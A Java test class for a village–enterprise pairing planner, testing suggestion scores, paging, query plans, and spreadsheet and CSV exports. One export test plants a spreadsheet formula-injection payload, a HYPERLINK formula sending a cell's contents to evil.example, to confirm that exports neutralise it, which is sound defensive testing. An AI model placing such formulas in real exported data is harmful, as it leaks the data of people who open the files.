package cn.tongxin.graph.planning;

import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.List;
import java.util.Map;

import cn.tongxin.graph.CypherCounter;
import cn.tongxin.graph.GraphTest;
import cn.tongxin.graph.TongxinHttp;
import cn.tongxin.graph.TwoTowns;
import cn.tongxin.graph.system.Cursor;
import cn.tongxin.graph.system.CypherFile;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.neo4j.driver.Driver;
import org.neo4j.driver.summary.Plan;
import org.neo4j.driver.summary.ProfiledPlan;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.neo4j.core.Neo4jClient;
import org.springframework.graphql.client.ClientGraphQlResponse;

import static cn.tongxin.graph.TongxinHttp.value;
import static cn.tongxin.graph.TongxinHttp.values;
import static cn.tongxin.graph.TwoTowns.TOWN_A;
import static cn.tongxin.graph.TwoTowns.viewerOf;
import static cn.tongxin.graph.QueryPlans.operators;
import static org.assertj.core.api.Assertions.assertThat;

/**
 * Planning over real HTTP, on a map laid out along one meridian (107°E), so that distances are latitude apart:
 * 0.1° is 11.1 km, 0.05° is 5.6 km. Reach 50 km, load 3, the default industry fit.
 * <ul>
 * <li>Town A: V1 (34.00°N, a village, unpaired), V2 (34.20°N, a community of 800 households, unpaired), V3 (no
 * location, 1,200 households, unpaired), V4 (paired with E1).</li>
 * <li>E1: town A, AGRICULTURE, at 34.10°N, paired with V4. E2: town B, LOGISTICS, at 34.05°N, run by R2, whom town
 * A's leader L1 befriends. E3: town B, FOOD, at 34.00°N, paired with three villages of town B. E4: town B,
 * AGRICULTURE, at 35.00°N, 111 km off. E5: town A, TOURISM, location unknown.</li>
 * </ul>
 * Scored by hand for V1 (distance 40 × (1 − km / 50), same town 20, fit 15, load 15 × (1 − paired / 3),
 * introduction 10): E1 31.1 + 20 + 15 + 10 = 76.1; E2 35.5 + 0 + 0 + 15 + 10 = 60.5; E3 40 + 0 + 15 + 0 = 55.0;
 * E5 0 + 20 + 15 + 15 = 50.0; E4 is out of reach and of no tie.
 */
@GraphTest
class PlanningTests {

	static final String V1 = "610322100001";

	static final String V2 = "610322100002";

	static final String V3 = "610322100003";

	static final String E1 = "91610322022725555J";

	static final String E2 = "91610322003046178X";

	static final String E3 = "916103220168474769";

	static final String E4 = "91610322042917239U";

	static final String E5 = "91610322062430479F";

	static final String SUGGESTIONS = """
			query($code: ID!) { pairingSuggestions(villageCode: $code) {
			  enterprise { creditCode } score parts { distance sameTown industryFit load warmIntroduction }
			  distanceKm currentPairings introduction { leaderName representativeName path } reason } }
			""";

	@LocalServerPort
	int port;

	@Autowired
	Neo4jClient neo4j;

	@Autowired
	CypherCounter cypher;

	@Autowired
	Driver driver;

	TongxinHttp admin;

	@BeforeEach
	void aMapAlongOneMeridian() {
		this.admin = TwoTowns.emptyGraphWithTownsAB(this.neo4j, this.port);
		this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude
				%s,一村,%s,VILLAGE,,34.00,107.00
				%s,二社区,%s,COMMUNITY,800,34.20,107.00
				%s,三村,%s,VILLAGE,1200,,
				610322100004,四村,%s,VILLAGE,,34.30,107.00
				610322101001,乙一村,610322101,VILLAGE,,34.00,107.50
				610322101002,乙二村,610322101,VILLAGE,,34.00,107.50
				610322101003,乙三村,610322101,VILLAGE,,34.00,107.50
				""".formatted(V1, TOWN_A, V2, TOWN_A, V3, TOWN_A, TOWN_A));
		this.admin.importCsv("enterprises", """
				credit_code,name,town_code,industry,latitude,longitude
				%s,甲农业,%s,AGRICULTURE,34.10,107.00
				%s,乙物流,610322101,LOGISTICS,34.05,107.00
				%s,乙食品,610322101,FOOD,34.00,107.00
				%s,乙远农,610322101,AGRICULTURE,35.00,107.00
				%s,甲文旅,%s,TOURISM,,
				""".formatted(E1, TOWN_A, E2, E3, E4, E5, TOWN_A));
		this.admin.importCsv("pairings", """
				enterprise_credit_code,village_code,since
				%s,610322100004,2024-01-01
				%s,610322101001,2024-01-01
				%s,610322101002,2024-01-01
				%s,610322101003,2024-01-01
				""".formatted(E1, E3, E3, E3));
		this.admin.importCsv("leaders", "id,name,role,level,town_code\nL1,刘洋,PARTY_COMMITTEE,TOWN,%s\n".formatted(TOWN_A));
		this.admin.importCsv("representatives", "id,name,category,level,town_code,enterprise_credit_code\nR2,李娜,PRIVATE_ECONOMY,DISTRICT,610322101,%s\n"
			.formatted(E2));
		this.admin.importCsv("friendships", "leader_id,representative_id,since\nL1,R2,2024-01-01\n");
	}

	@Test
	void ranksSuggestionsByAScoreWhosePartsAreReturned() {
		var ranked = suggestions(this.admin, V1);

		assertThat(values(ranked, "pairingSuggestions[*].enterprise.creditCode")).containsExactly(E1, E2, E3, E5);
		assertThat(values(ranked, "pairingSuggestions[*].score")).containsExactly(76.1, 60.5, 55.0, 50.0);
		assertThat(values(ranked, "pairingSuggestions[0].parts.*")).containsExactly(31.1, 20.0, 15.0, 10.0, 0.0);
		assertThat(values(ranked, "pairingSuggestions[1].parts.*")).containsExactly(35.5, 0.0, 0.0, 15.0, 10.0);
		assertThat((Object) value(ranked, "pairingSuggestions[2].parts.load")).isEqualTo(0.0);
		assertThat((Object) value(ranked, "pairingSuggestions[3].distanceKm")).isNull();
		assertThat(values(ranked, "pairingSuggestions[1].introduction.path[*]")).containsExactly("刘洋（党委委员）与李娜结对交友",
				"李娜 负责 乙物流");
		assertThat(values(ranked, "pairingSuggestions[*].reason")).containsExactly(
				"甲农业：距离 11.1 公里，同镇，行业对口（农业），目前结对 1 个村",
				"乙物流：距离 5.6 公里，目前未结对，可请刘洋经李娜引荐",
				"乙食品：距离 0.0 公里，行业对口（食品加工），目前结对 3 个村，已满负荷",
				"甲文旅：位置不详，同镇，行业对口（文化旅游），目前未结对");
	}

	@Test
	void leavesOutTheEnterpriseAlreadyPairedAndRefusesAnUnknownVillage() {
		assertThat(values(suggestions(this.admin, "610322100004"), "pairingSuggestions[*].enterprise.creditCode"))
			.doesNotContain(E1);
		var unknown = this.admin.graphQl().document(SUGGESTIONS).variable("code", "610322100999").executeSync();
		assertThat(unknown.getErrors()).singleElement()
			.satisfies(error -> assertThat(error.getErrorType().toString()).isEqualTo("BAD_REQUEST"));
	}

	@Test
	void plansOnlyForVillagesEstablishedByToday() {
		// 乙三村 (one of E3's three) set up only next year, and a large village of town A too
		assertThat(this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude,established_on
				610322101003,乙三村,610322101,VILLAGE,,34.00,107.50,2027-01-01
				610322100007,七新村,%s,VILLAGE,5000,34.00,107.00,2027-01-01
				""".formatted(TOWN_A)).rejected()).isEmpty();

		var ranked = suggestions(this.admin, V1);
		// E3 carries two villages today: load 15 × (1 − 2 / 3) = 5.0, so 40 + 0 + 15 + 5 = 60.0
		assertThat(values(ranked, "pairingSuggestions[*].enterprise.creditCode")).containsExactly(E1, E2, E3, E5);
		assertThat(values(ranked, "pairingSuggestions[*].score")).containsExactly(76.1, 60.5, 60.0, 50.0);
		assertThat((Object) value(ranked, "pairingSuggestions[2].currentPairings")).isEqualTo(2);
		assertThat(values(suggestions(this.admin, "610322100007"), "pairingSuggestions")).isEmpty();
		assertThat(unpaired(Map.of("orderBy", "HOUSEHOLDS_DESC"))).containsExactly(V3, V2, V1);
		assertThat(unpaired(Map.of("townCode", TOWN_A, "orderBy", "DISTANCE"))).containsExactly(V1, V2, V3);
	}

	@Test
	void findsTheNearestEnterprisesThroughWideningRings() {
		var near = this.admin.graphQl()
			.document("{ village(code: \"%s\") { nearestEnterprises { enterprise { creditCode } distanceKm } } }".formatted(V1))
			.executeSync();

		assertThat(values(near, "village.nearestEnterprises[*].enterprise.creditCode")).containsExactly(E3, E2, E1);
		assertThat((Object) value(near, "village.nearestEnterprises[0].distanceKm")).isEqualTo(0.0);
	}

	@Test
	void filtersAndOrdersUnpairedVillagesForPlanning() {
		assertThat(unpaired(Map.of("townCode", TOWN_A))).containsExactly(V1, V2, V3);
		assertThat(unpaired(Map.of("townCode", TOWN_A, "orderBy", "HOUSEHOLDS_DESC"))).containsExactly(V3, V2, V1);
		assertThat(unpaired(Map.of("townCode", TOWN_A, "orderBy", "DISTANCE"))).containsExactly(V1, V2, V3);
		assertThat(unpaired(Map.of("orderBy", "DISTANCE"))).as("the district").containsExactly(V1, V2, V3);
		assertThat(unpaired(Map.of("townCode", TOWN_A, "kind", "COMMUNITY"))).containsExactly(V2);
		assertThat(unpaired(Map.of("townCode", TOWN_A, "minHouseholds", 1000))).containsExactly(V3);

		var first = page(Map.of("townCode", TOWN_A, "orderBy", "HOUSEHOLDS_DESC", "first", 2));
		String after = value(first, "unpairedVillages.pageInfo.endCursor");
		var second = page(Map.of("townCode", TOWN_A, "orderBy", "HOUSEHOLDS_DESC", "first", 2, "after", after));
		assertThat(values(second, "unpairedVillages.edges[*].node.code")).containsExactly(V1);
		var pagedOneByOne = new ArrayList<String>();
		String cursor = null;
		for (int page = 0; page < 4; page++) {
			var variables = new HashMap<String, Object>(Map.of("townCode", TOWN_A, "orderBy", "DISTANCE", "first", 1));
			variables.put("after", cursor);
			var response = page(variables);
			pagedOneByOne.addAll(values(response, "unpairedVillages.edges[*].node.code"));
			cursor = value(response, "unpairedVillages.pageInfo.endCursor");
		}
		assertThat(pagedOneByOne).as("through a village with no location, last").containsExactly(V1, V2, V3);
	}

	@Test
	void pagesTheDistrictsUnpairedVillagesByHouseholdsDownTheIndexAsATownsAreRanked() {
		// ties on households across both towns, one of them paired, and more villages without households
		this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude
				610322100005,五村,%1$s,VILLAGE,800,,
				610322100006,六社区,%1$s,COMMUNITY,1200,,
				610322101004,乙四村,610322101,VILLAGE,800,,
				610322101005,乙五村,610322101,VILLAGE,,,
				610322101006,乙六村,610322101,VILLAGE,1200,,
				""".formatted(TOWN_A));
		this.admin.importCsv("pairings", "enterprise_credit_code,village_code,since\n%s,610322101006,2024-01-01\n".formatted(E3));
		var byHouseholds = List.of(V3, "610322100006", V2, "610322100005", "610322101004", V1, "610322101005");

		assertThat(unpaired(Map.of("orderBy", "HOUSEHOLDS_DESC"))).containsExactlyElementsOf(byHouseholds);
		for (int size : List.of(1, 2, 3)) {
			var paged = new ArrayList<String>();
			String cursor = null;
			for (int page = 0; page < 8; page++) {
				var variables = new HashMap<String, Object>(Map.of("orderBy", "HOUSEHOLDS_DESC", "first", size));
				variables.put("after", cursor);
				var response = page(variables);
				List<String> codes = values(response, "unpairedVillages.edges[*].node.code");
				if (codes.isEmpty()) {
					break;
				}
				paged.addAll(codes);
				cursor = value(response, "unpairedVillages.pageInfo.endCursor");
			}
			assertThat(paged).as("pages of " + size).containsExactlyElementsOf(byHouseholds);
		}
		assertThat(unpaired(Map.of("orderBy", "HOUSEHOLDS_DESC", "minHouseholds", 800, "kind", "VILLAGE")))
			.containsExactly(V3, "610322100005", "610322101004");
		var inOneTown = this.admin.createUser("a.planner", "VIEWER", false, List.of(TOWN_A)).graphQl()
			.document("{ unpairedVillages(orderBy: HOUSEHOLDS_DESC) { totalCount edges { node { code } } } }")
			.executeSync();
		assertThat(values(inOneTown, "unpairedVillages.edges[*].node.code")).as("a town-bound user's, ranked")
			.containsExactly(V3, "610322100006", V2, "610322100005", V1);
		var counted = this.admin.graphQl()
			.document("{ unpairedVillages(orderBy: HOUSEHOLDS_DESC, first: 1) { totalCount } }")
			.executeSync();
		assertThat((Object) value(counted, "unpairedVillages.totalCount")).isEqualTo(7);

		var parameters = new HashMap<String, Object>(Map.of("countAll", false, "limit", 51, "today",
				LocalDate.of(2026, 11, 25), "upper", Long.MAX_VALUE, "lower", Long.MIN_VALUE));
		for (String name : List.of("userTowns", "kind", "minHouseholds", "afterValue", "afterCode")) {
			parameters.put(name, null);
		}
		try (var session = this.driver.session()) {
			Plan plan = session.run("EXPLAIN " + CypherFile.load("coverage/unpaired-villages-by-households"), parameters)
				.consume()
				.plan();
			assertThat(operators(plan)).as("walks the households index in order, sorting only ties")
				.anyMatch(operator -> operator.contains("RANGE INDEX v:Village(households)") && operator.contains("DESC"))
				.noneMatch(operator -> operator.startsWith("Sort") || operator.startsWith("Top@"));
		}
	}

	@Test
	void pagesTheDistrictsUnpairedVillagesByDistanceUpTheKeptDistanceAsTheRingSearchRanks() {
		// ties on distance across both towns, one village 600 km from every enterprise, two with no location, one paired
		this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude
				610322100005,五村,%1$s,VILLAGE,800,34.00,107.00
				610322100006,六社区,%1$s,COMMUNITY,1200,40.00,107.00
				610322101004,乙四村,610322101,VILLAGE,800,34.20,107.00
				610322101005,乙五村,610322101,VILLAGE,,,
				610322101006,乙六村,610322101,VILLAGE,1200,34.90,107.00
				""".formatted(TOWN_A));
		this.admin.importCsv("pairings", "enterprise_credit_code,village_code,since\n%s,610322101006,2024-01-01\n".formatted(E3));
		assertSameAsTheRingSearch("as loaded");
		var inOneTown = viewerOf(this.admin, TOWN_A).graphQl()
			.document("{ unpairedVillages(orderBy: DISTANCE) { edges { cursor } } }")
			.executeSync();
		List<String> positions = values(inOneTown, "unpairedVillages.edges[*].cursor");
		assertThat(positions.stream().map(Cursor::keyOf).toList())
			.as("a town-bound user's, ranked by the distance to the enterprises they may see: V1's is E1's 11.1 km, not E3's 0")
			.hasSize(5)
			.anyMatch(position -> position.startsWith("11.1") && position.endsWith("|" + V1))
			.endsWith("|" + V3, "|610322100006");

		this.admin.importCsv("enterprises", """
				credit_code,name,town_code,industry,latitude,longitude
				91610322000000001A,甲新农,%s,AGRICULTURE,34.21,107.00
				91610322000000002B,乙远物流,610322101,LOGISTICS,37.50,107.00
				""".formatted(TOWN_A));
		assertSameAsTheRingSearch("enterprises created, one 390 km off the far village, out of its reach");
		this.admin.importCsv("enterprises", """
				credit_code,name,town_code,industry,latitude,longitude
				%s,乙食品,610322101,FOOD,37.80,107.00
				91610322000000001A,甲新农,%s,AGRICULTURE,,
				91610322000000002B,乙远物流,610322101,LOGISTICS,38.00,107.00
				""".formatted(E3, TOWN_A));
		assertSameAsTheRingSearch("enterprises moved, one towards the far village, and one's location removed");
		this.admin.graphQl().document("mutation { deleteEnterprise(creditCode: \"%s\") { deleted } }".formatted(E2)).executeSync();
		this.admin.graphQl().document("mutation { deleteEnterprise(creditCode: \"%s\") { deleted } }".formatted(E1)).executeSync();
		assertSameAsTheRingSearch("the nearest enterprises of V1 and V2 deleted");
		this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude
				%s,一村,%s,VILLAGE,,37.70,107.00
				%s,三村,%s,VILLAGE,1200,34.50,107.00
				610322100006,六社区,%s,COMMUNITY,1200,,
				""".formatted(V1, TOWN_A, V3, TOWN_A, TOWN_A));
		assertSameAsTheRingSearch("villages moved, one given a location and one's removed");

		var parameters = new HashMap<String, Object>(Map.of("countAll", false, "limit", 51, "today",
				LocalDate.of(2026, 11, 25), "lowerMetres", 0.0));
		for (String name : List.of("userTowns", "kind", "minHouseholds", "afterValue", "afterCode")) {
			parameters.put(name, null);
		}
		try (var session = this.driver.session()) {
			Plan plan = session.run("EXPLAIN " + CypherFile.load("coverage/unpaired-villages-by-distance"), parameters)
				.consume()
				.plan();
			assertThat(operators(plan)).as("walks the kept distance's index in order, sorting only ties")
				.anyMatch(operator -> operator.contains("RANGE INDEX v:Village(nearestEnterpriseMetres)"))
				.noneMatch(operator -> operator.startsWith("Sort") || operator.startsWith("Top@"));
			var profiled = session.run("PROFILE " + CypherFile.load("coverage/unpaired-villages-by-distance"), parameters)
				.consume()
				.profile();
			assertThat(labelScanRows(profiled)).as("a first page reads no village by its label").isZero();
		}
	}

	private static long labelScanRows(ProfiledPlan plan) {
		long rows = plan.operatorType().startsWith("NodeByLabelScan") ? plan.records() : 0;
		for (ProfiledPlan child : plan.children()) {
			rows += labelScanRows(child);
		}
		return rows;
	}

	/**
	 * The district's unpaired villages by distance, paged by an administrator (the kept distance) in pages of 1, 2 and
	 * 50, are the villages ring-search ranking (unpaired-villages-ordered) gives, in its order and with its values.
	 */
	private void assertSameAsTheRingSearch(String after) {
		var parameters = new HashMap<String, Object>(Map.of("orderBy", "DISTANCE", "limit", 1000, "today",
				LocalDate.of(2026, 11, 25)));
		for (String name : List.of("townCode", "userTowns", "kind", "minHouseholds", "afterValue", "afterCode")) {
			parameters.put(name, null);
		}
		List<String> ranked;
		try (var session = this.driver.session()) {
			ranked = session.run(CypherFile.load("coverage/unpaired-villages-ordered"), parameters)
				.single()
				.get("unpaired")
				.get("page")
				.asList(entry -> Cursor.position(entry.get("value").computeOrDefault(value -> value.asDouble(), null),
						entry.get("village").get("code").asString()));
		}
		assertThat(ranked).as(after).hasSizeGreaterThan(3);
		Map<String, Object> labels = this.neo4j.query("""
				MATCH (v:Village)
				RETURN collect(CASE WHEN v:BeyondReach THEN v.code END) AS labelled,
				       collect(CASE WHEN v.location IS NOT NULL AND v.nearestEnterpriseMetres IS NULL THEN v.code END) AS beyond""")
			.fetch()
			.one()
			.orElseThrow();
		List<Object> labelled = new ArrayList<>((List<?>) labels.get("labelled"));
		List<Object> beyond = new ArrayList<>((List<?>) labels.get("beyond"));
		assertThat(labelled).as(after + ": the villages labelled BeyondReach are the located ones with no enterprise within 320 km")
			.containsExactlyInAnyOrderElementsOf(beyond);
		for (int size : List.of(1, 2, 50)) {
			var paged = new ArrayList<String>();
			String cursor = null;
			for (int page = 0; page < 20; page++) {
				var variables = new HashMap<String, Object>(Map.of("orderBy", "DISTANCE", "first", size));
				variables.put("after", cursor);
				var response = this.admin.graphQl()
					.document("""
							query($orderBy: UnpairedOrder, $first: Int, $after: String) {
							  unpairedVillages(orderBy: $orderBy, first: $first, after: $after) {
							    totalCount edges { cursor } pageInfo { endCursor } } }
							""")
					.variables(variables)
					.executeSync();
				List<String> cursors = values(response, "unpairedVillages.edges[*].cursor");
				if (cursors.isEmpty()) {
					break;
				}
				assertThat((Object) value(response, "unpairedVillages.totalCount")).as(after).isEqualTo(ranked.size());
				cursors.forEach(each -> paged.add(Cursor.keyOf(each)));
				cursor = value(response, "unpairedVillages.pageInfo.endCursor");
			}
			assertThat(paged).as(after + ", pages of " + size).containsExactlyElementsOf(ranked);
		}
	}

	@Test
	void listsEveryUnpairedVillageOfATownWithItsBestSuggestionsInThreeRoundTrips() {
		this.cypher.reset();
		var worksheet = this.admin.graphQl()
			.document("{ planningWorksheet(townCode: \"%s\", suggestions: 3) { village { code } suggestions { enterprise { creditCode } score } } }"
				.formatted(TOWN_A))
			.executeSync();

		assertThat(values(worksheet, "planningWorksheet[*].village.code")).containsExactly(V1, V2, V3);
		assertThat(values(worksheet, "planningWorksheet[0].suggestions[*].enterprise.creditCode")).containsExactly(E1, E2, E3);
		assertThat(values(worksheet, "planningWorksheet[2].suggestions[*].enterprise.creditCode")).containsExactly(E5, E1, E2);
		assertThat(values(worksheet, "planningWorksheet[2].suggestions[*].score")).containsExactly(50.0, 45.0, 25.0);
		assertThat(this.cypher.statements()).as("sign-in, unpaired villages, candidates").isEqualTo(3);
	}

	@Test
	void suggestsToATownBoundPlannerOnlyWhatTheyMaySee() {
		var plannerOfA = this.admin.createUser("a.planner", "VIEWER", false, List.of(TOWN_A));

		assertThat(values(suggestions(plannerOfA, V1), "pairingSuggestions[*].enterprise.creditCode")).containsExactly(E1, E5);
	}

	@Test
	void looksEnterprisesUpByDistanceThroughThePointIndex() {
		var parameters = new HashMap<String, Object>(Map.of("villageCodes", List.of(V1), "first", 3,
				"reachMetres", 50000.0, "today", LocalDate.of(2026, 11, 25)));
		parameters.put("userTowns", null);
		for (String query : List.of("planning/nearest-enterprises", "planning/pairing-candidates")) {
			try (var session = this.driver.session()) {
				Plan plan = session.run("EXPLAIN " + CypherFile.load(query), parameters).consume().plan();
				assertThat(operators(plan)).as(query).anyMatch(operator -> operator.startsWith("NodeIndexSeekByRange")
						&& operator.contains("POINT INDEX e:Enterprise(location)"));
			}
		}
	}

	@Test
	void exportsATownsWorksheetAsASpreadsheetThatReadsBack() throws Exception {
		var response = this.admin.download("/api/export/planning-worksheet?townCode=" + TOWN_A + "&suggestions=2");

		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(response.headers().firstValue("Content-Type")).hasValueSatisfying(type -> assertThat(type).contains("spreadsheetml"));
		assertThat(response.headers().firstValue("Content-Disposition"))
			.hasValueSatisfying(disposition -> assertThat(disposition).contains("filename=\"planning-worksheet-610322100-2026-11-25.xlsx\"")
				.contains("filename*=UTF-8''"));
		try (var workbook = new XSSFWorkbook(new ByteArrayInputStream(response.body()))) {
			var sheet = workbook.getSheetAt(0);
			var header = sheet.getRow(0);
			assertThat(header.getCell(0).getStringCellValue()).isEqualTo("村（社区）代码");
			assertThat(header.getCell(13).getStringCellValue()).isEqualTo("推荐理由");
			assertThat(workbook.getFontAt(header.getCell(0).getCellStyle().getFontIndex()).getBold()).isTrue();
			assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
			assertThat(sheet.getColumnWidth(13)).as("wide enough for the reasons").isGreaterThan(30 * 256);
			assertThat(sheet.getLastRowNum()).as("V1 and V2 with two suggestions each, V3 with two").isEqualTo(6);
			var best = sheet.getRow(1);
			assertThat(best.getCell(0).getStringCellValue()).isEqualTo(V1);
			assertThat(best.getCell(5).getStringCellValue()).isEqualTo("甲农业");
			assertThat(best.getCell(7).getNumericCellValue()).isEqualTo(76.1);
			assertThat(best.getCell(13).getStringCellValue()).startsWith("甲农业：距离 11.1 公里");
		}
	}

	@Test
	void exportsCoverageByTownAsCsvWithATotal() {
		var response = this.admin.download("/api/export/coverage?format=csv");
		String csv = new String(response.body(), StandardCharsets.UTF_8);

		assertThat(response.statusCode()).isEqualTo(200);
		assertThat(csv).startsWith("\uFEFF镇（街道）代码,镇（街道）,村（社区）数,已结对,未结对,覆盖率（%）\r\n")
			.contains("610322100,甲镇,4,1,3,25.0\r\n")
			.endsWith(",合计,7,4,3,57.1\r\n");
		String viewersCsv = new String(viewerOf(this.admin, TOWN_A)
			.download("/api/export/coverage?format=csv")
			.body(), StandardCharsets.UTF_8);
		assertThat(viewersCsv).as("a viewer of town A, within it").doesNotContain("乙镇").endsWith(",合计,4,1,3,25.0\r\n");
		assertThat(this.admin.download("/api/export/coverage?format=pdf").statusCode()).isEqualTo(400);
		assertThat(this.admin.download("/api/export/planning-worksheet?townCode=610322999").statusCode()).isEqualTo(400);
	}

	/**
	 * Names that a spreadsheet would run as formulas reach the CSV files neutralised (a leading apostrophe), still
	 * readable; numbers stay numbers. Each download is in the audit trail, with who took which file.
	 */
	@Test
	void writesFormulasAsTextAndAuditsEveryDownload() throws Exception {
		String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"甲镇\")";
		this.admin.importCsv("towns", "code,name\n%s,\"%s\"\n".formatted(TOWN_A, link.replace("\"", "\"\"")));
		this.admin.importCsv("villages", """
				code,name,town_code,kind,households,latitude,longitude
				%s,@SUM(A1),%s,VILLAGE,,34.00,107.00
				%s,-2+3,%s,COMMUNITY,800,34.20,107.00
				""".formatted(V1, TOWN_A, V2, TOWN_A));
		TongxinHttp viewer = viewerOf(this.admin, TOWN_A);

		List<CSVRecord> coverage = csv(viewer.download("/api/export/coverage?format=csv").body());
		List<CSVRecord> worksheet = csv(this.admin
			.download("/api/export/planning-worksheet?townCode=" + TOWN_A + "&suggestions=2&format=csv")
			.body());

		assertThat(coverage.get(1).values()).containsExactly(TOWN_A, "'" + link, "4", "1", "3", "25.0");
		assertThat(worksheet).extracting(row -> row.get(1)).contains("'@SUM(A1)", "'-2+3");
		for (CSVRecord row : coverage.subList(1, coverage.size())) {
			assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotMatch("[=+\\-@\t\r].*"));
		}
		for (CSVRecord row : worksheet.subList(1, worksheet.size())) {
			assertThat(row.values()).allSatisfy(cell -> assertThat(cell).doesNotMatch("[=+\\-@\t\r].*"));
		}
		var log = this.admin.graphQl()
			.document("{ auditLog(filter: {operation: \"export\"}) { edges { node { username kind keys at } } } }")
			.executeSync();
		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'coverage')].node.username")).containsExactly("a.viewer");
		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'planning-worksheet')].node.username"))
			.containsExactly("admin");
		assertThat(values(log, "auditLog.edges[?(@.node.kind == 'planning-worksheet')].node.keys[*]"))
			.containsExactly(TOWN_A);
	}

	private static List<CSVRecord> csv(byte[] file) throws Exception {
		String text = new String(file, StandardCharsets.UTF_8).replaceFirst("^\uFEFF", "");
		return CSVParser.parse(text, CSVFormat.RFC4180).getRecords();
	}

	private static ClientGraphQlResponse suggestions(TongxinHttp client, String villageCode) {
		return client.graphQl().document(SUGGESTIONS).variable("code", villageCode).executeSync();
	}

	private List<String> unpaired(Map<String, Object> variables) {
		return values(page(variables), "unpairedVillages.edges[*].node.code");
	}

	private ClientGraphQlResponse page(Map<String, Object> variables) {
		return this.admin.graphQl()
			.document("""
					query($townCode: ID, $kind: VillageKind, $minHouseholds: Int, $orderBy: UnpairedOrder, $first: Int, $after: String) {
					  unpairedVillages(townCode: $townCode, kind: $kind, minHouseholds: $minHouseholds, orderBy: $orderBy,
					                   first: $first, after: $after) { edges { node { code } } pageInfo { endCursor } } }
					""")
			.variables(variables)
			.executeSync();
	}

}
